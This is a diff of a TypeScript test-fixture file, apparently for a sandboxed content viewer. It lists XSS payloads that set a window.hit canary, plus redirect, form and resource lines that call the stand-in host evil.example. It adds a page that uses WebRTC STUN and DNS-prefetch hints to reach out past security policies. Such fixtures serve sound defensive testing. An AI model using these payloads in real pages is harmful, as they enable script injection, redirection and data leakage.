@@ -22,7 +22,7 @@ export const scripts: readonly string[] = [
   "<input autofocus onfocus=window.hit=1>",
   "<select autofocus onfocus=window.hit=1></select>",
   "<marquee onstart=window.hit=1>x</marquee>",
-  "<form action=https://evil.example><button>Allow once</button></form>",
+  "<form action=https://evil.example><button>Approve once</button></form>",
   "<meta http-equiv=refresh content='0;url=https://evil.example'>",
   "<base href=https://evil.example/>",
   "<link rel=stylesheet href=https://evil.example/x.css>",
@@ -100,6 +100,19 @@ export const files: Readonly<Record<string, string>> = {
   "code.js": `</code></pre><img src=x onerror=window.hit=1><script>window.hit=1</script>`,
   "text.txt": `<script>window.hit=1</script><img src=https://evil.example/t.png>`,
 };
+
+/** Pages that lead elsewhere by themselves, and whose scripts call somebody past all policies. */
+export function callingPages(port: number): Readonly<Record<"leading.html" | "calling.html", string>> {
+  const call =
+    `const c=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${port}"}]});c.createDataChannel("x");` +
+    `c.createOffer().then((o)=>c.setLocalDescription(o));document.body.textContent="runs"`;
+  const hints =
+    "<link rel=dns-prefetch href=//secret.evil.example><link rel=preconnect href=https://secret.evil.example>";
+  return {
+    "leading.html": `<!doctype html><meta http-equiv=refresh content='0;url=https://evil.example/'>stands still`,
+    "calling.html": `<!doctype html>${hints}<body>stands still<script>${call}</script>`,
+  };
+}
 
 /** Names of files; no name has a slash. */
 export const names: readonly string[] = [
